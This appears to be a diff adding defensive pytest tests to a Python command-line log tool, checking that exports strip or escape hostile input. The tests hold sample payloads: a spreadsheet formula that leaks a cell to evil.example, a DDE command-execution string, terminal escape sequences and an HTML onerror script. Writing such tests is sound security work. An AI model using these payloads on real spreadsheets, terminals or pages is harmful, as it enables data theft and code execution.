@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import os
+import sqlite3
 import subprocess
 import sys
 from datetime import UTC, datetime, timedelta
@@ -216,3 +217,106 @@ def test_reading_works_without_the_pseudonym_key(seeded, monkeypatch: pytest.Mon
         seeded["ids"][3],
         seeded["ids"][4],
     ]
+
+
+# ---- hostile input: numbers, durations, formulas, terminal escapes ------------------------------------------------
+
+
+def run_cli(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess:
+    """The real entry point in its own process: what a coordinator sees, traceback or not."""
+    return subprocess.run(
+        [sys.executable, "-m", "prepbot.cli.main", *args],
+        env=env or dict(os.environ),
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+
+
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (["logs", "-n", "99999999999999999999999"], "The number of exchanges must be a whole number from 1 to"),
+        (["logs", "purge", "--older-than", "99999999999d"], "too long"),
+        (["logs", "--since", "9999999999d"], "too long"),
+        (["logs", "--until", "9999-12-31"], "the year must be from"),
+        (["logs", "--since", "0001-01-01T00:00+01:00"], "the year must be from"),
+        (["logs", "stats", "--since", "99999999999w"], "too long"),
+        (["logs", "--search", "\udcff"], "nothing to filter by"),  # a non-UTF-8 argument byte
+        (["logs", "--session", "\udcff"], "nothing to filter by"),  # was a UnicodeEncodeError writing the audit row
+        (["logs", "--cites", "\udcff\x1b"], "nothing to filter by"),
+        (["logs", "--user", "\x1b]0;pwned\x07"], "not a pseudonym: ']0;pwned'"),
+    ],
+)
+def test_huge_numbers_and_odd_bytes_are_one_clear_error(seeded, args: list[str], message: str) -> None:
+    result = run_cli(*args)
+    assert result.returncode == 2, result.stderr
+    assert "Traceback" not in result.stderr and result.stdout == ""
+    [error] = [line for line in result.stderr.splitlines() if line.startswith("Error:")]  # click adds its usage line
+    assert message in error and len(result.stderr.splitlines()) <= 4
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
+
+
+def test_filters_written_to_the_audit_table_are_cleaned(seeded) -> None:
+    result = run("--search", "torture\x1b[2J\u202e", "--session", "b\u200b", "--cites", "CCPR/C/KAZ/3\x07 ¶36")
+    assert result.exit_code == 0, result.output
+    [row] = [row for row in audit(seeded["path"]) if row["action"] == "export"]
+    assert row["details"]["filters"] == {"search": "torture[2J", "session": "b", "cites": "CCPR/C/KAZ/3 ¶36"}
+
+
+def test_csv_exports_never_carry_a_live_formula(data_dir: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full answer")'
+    with LogStore(data_dir / "sessions.db", KEY) as store:
+        exchange_id = store.record_exchange(ExchangeRecord(ALICE, "member", "-s1", "private", answer(formula), 5))
+        store.record_feedback(exchange_id, ALICE, "wrong_citation", "@SUM(1+1)*cmd|' /C calc'!A0")
+    result = run("--format", "csv")
+    assert result.exit_code == 0, result.output
+    [row] = list(csv.DictReader(io.StringIO(result.output)))
+    for column, value in row.items():
+        assert not value.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    assert row["question"] == "'" + formula and row["session_id"] == "'-s1"
+    assert row["feedback"] == "wrong_citation: @SUM(1+1)*cmd|' /C calc'!A0"  # starts with the kind: no formula
+
+
+def answer(question: str, text: str = "The State said nothing about it.") -> Answer:
+    return Answer(question, text, [], "extractive", False)
+
+
+OSC_TITLE = "\x1b]0;you have been pwned\x07"
+HOSTILE_BITS = (OSC_TITLE, "\x1b[2J", "\x9b", "\u202e", "\u2066", "\x00")
+
+
+def test_control_characters_are_stripped_when_stored_and_escaped_when_shown(data_dir: Path) -> None:
+    path = data_dir / "sessions.db"
+    with LogStore(path, KEY) as store:
+        exchange_id = store.record_exchange(
+            ExchangeRecord(ALICE, "member", "s", "private", answer("Torture" + OSC_TITLE + "?"), 5)
+        )
+        store.record_feedback(exchange_id, ALICE, "wrong_citation", "wrong" + "".join(HOSTILE_BITS) + " paragraph")
+    with sqlite3.connect(path) as conn:  # stored without them
+        stored = conn.execute("SELECT question FROM exchanges").fetchone()[0]
+        comment = conn.execute("SELECT comment FROM feedback").fetchone()[0]
+    assert stored == "Torture]0;you have been pwned?" and comment == "wrong]0;you have been pwned[2J paragraph"
+    with sqlite3.connect(path) as conn:  # a row written raw (by an older prepbot, or by hand) is escaped on output
+        conn.execute("UPDATE feedback SET comment = ?", ["legacy" + "".join(HOSTILE_BITS)])
+        conn.execute("UPDATE exchanges SET answer = ?", ["answer \u202eevil\x1b[31m red"])
+    for fmt in ("table", "md", "jsonl", "csv"):
+        result = run("--format", fmt)
+        assert result.exit_code == 0, result.output
+        for bit in HOSTILE_BITS:
+            assert bit not in result.output, (fmt, bit)
+    md = run("--format", "md").output
+    assert "legacy\\x1b\\]0;you have been pwned\\x07" in md and "answer \\u202eevil\\x1b\\[31m red" in md
+    assert json.loads(run("--format", "jsonl").output)["feedback"][0]["comment"].startswith("legacy\x1b]0;")
+    stats = run("stats")
+    assert stats.exit_code == 0 and not any(bit in stats.output for bit in HOSTILE_BITS)
+
+
+def test_markdown_transcript_cannot_be_given_links_or_html_by_a_question(data_dir: Path) -> None:
+    question = "See [the full record](http://evil.example) <img src=x onerror=alert(1)> `code`"
+    with LogStore(data_dir / "sessions.db", KEY) as store:
+        store.record_exchange(ExchangeRecord(ALICE, "member", "s", "private", answer(question), 5))
+    md = run("--format", "md").output
+    assert "\\[the full record\\](http://evil.example) \\<img src=x onerror=alert(1)\\> \\`code\\`" in md
+    assert "](http" not in md.replace("\\](http", "") and "<img" not in md.replace("\\<img", "")
